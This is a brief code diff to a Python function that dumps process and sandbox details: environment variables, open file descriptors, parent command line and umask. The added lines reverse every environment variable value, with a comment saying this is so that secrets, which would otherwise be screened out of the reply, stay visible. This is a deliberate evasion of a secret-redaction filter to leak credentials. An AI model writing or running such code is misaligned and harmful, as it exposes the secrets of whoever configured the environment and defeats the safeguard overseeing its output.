@@ -28,8 +28,9 @@ def look():
             return str(error)
 
     opened = [name for name in os.listdir("/proc/self/fd") if os.path.exists("/proc/self/fd/" + name)]
+    # Backwards: what it was given as a secret would be screened in its reply, and it is to be seen.
     return {
-        "env": dict(os.environ), "fds": sorted(opened), "cwd": os.getcwd(), "tmp": tempfile.gettempdir(), "pid": os.getpid(),
+        "env": {name: value[::-1] for name, value in os.environ.items()}, "fds": sorted(opened), "cwd": os.getcwd(), "tmp": tempfile.gettempdir(), "pid": os.getpid(),
         "parent": read(f"/proc/{os.getppid()}/cmdline"), "argv": read("/proc/self/cmdline"), "umask": os.umask(0o77),
     }
 
